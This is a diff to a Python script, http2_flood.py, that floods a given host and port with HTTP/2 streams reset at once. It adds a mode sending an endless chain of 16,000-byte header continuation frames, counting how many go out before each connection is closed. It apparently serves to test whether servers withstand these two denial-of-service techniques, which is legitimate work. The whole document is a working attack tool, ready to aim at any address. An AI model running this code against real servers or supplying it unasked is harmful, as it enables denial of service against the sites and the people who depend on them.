@@ -1,12 +1,14 @@
 #!/usr/bin/env python3
 # SPDX-License-Identifier: Apache-2.0
-"""Floods a port with HTTP/2 streams that are reset at once, without a token, and prints what became of each connection.
+"""Floods a port with HTTP/2 streams that are reset at once, or with a header without end, without a token, and prints what became of
+each connection.
 
-usage: http2_flood.py HOST:PORT CONNECTIONS STREAMS [--tls] [--apart] [--source ADDRESS]
+usage: http2_flood.py HOST:PORT CONNECTIONS STREAMS [--tls] [--apart | --header] [--source ADDRESS]
 
 Opens CONNECTIONS connections one after another, and tries to send STREAMS streams on each. A reset follows its call at once, or with
---apart when the call has been processed. Prints, for each connection, how many of
-them had been sent when the other side closed it, or `all` if it did not.
+--apart when the call has been processed. With --header, each connection has one stream, whose header has STREAMS continuations of
+16,000 bytes and does not end. Prints, for each connection, how many of them had been sent when the other side closed it, or `all` if it
+did not.
 """
 import argparse
 import socket
@@ -15,8 +17,10 @@ import struct
 
 BATCH = 50
 TIMEOUT_S = 30
-HEADERS, END_HEADERS = 1, 4
+HEADERS, CONTINUATION, END_HEADERS = 1, 9, 4
 RST_STREAM, CANCEL = 3, struct.pack(">I", 8)
+# A field with a value of 16,000 bytes, without indexing: the length is 127 + 1 + 124 * 128, RFC 7541, section 5.1.
+LONG_FIELD = b"\x00\x01a\x7f\x81\x7c" + b"a" * 16_000
 
 
 def frame(kind, flags, stream, payload):
@@ -96,17 +100,33 @@ def flood(arguments):
         return sent
 
 
+def flood_header(arguments):
+    sent = 0
+    try:
+        with connect(arguments) as connection:
+            connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"") + frame(HEADERS, 0, 1, headers(arguments.tls)))
+            while sent < arguments.streams:
+                connection.sendall(frame(CONTINUATION, 0, 1, LONG_FIELD))
+                sent += 1
+                if is_closed(connection):
+                    return sent
+            return "all"
+    except OSError:
+        return sent
+
+
 def main():
     parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
     parser.add_argument("address")
     parser.add_argument("connections", type=int)
     parser.add_argument("streams", type=int)
     parser.add_argument("--apart", action="store_true")
+    parser.add_argument("--header", action="store_true")
     parser.add_argument("--tls", action="store_true")
     parser.add_argument("--source")
     arguments = parser.parse_args()
     for _ in range(arguments.connections):
-        print(flood(arguments), flush=True)
+        print((flood_header if arguments.header else flood)(arguments), flush=True)
 
 
 main()
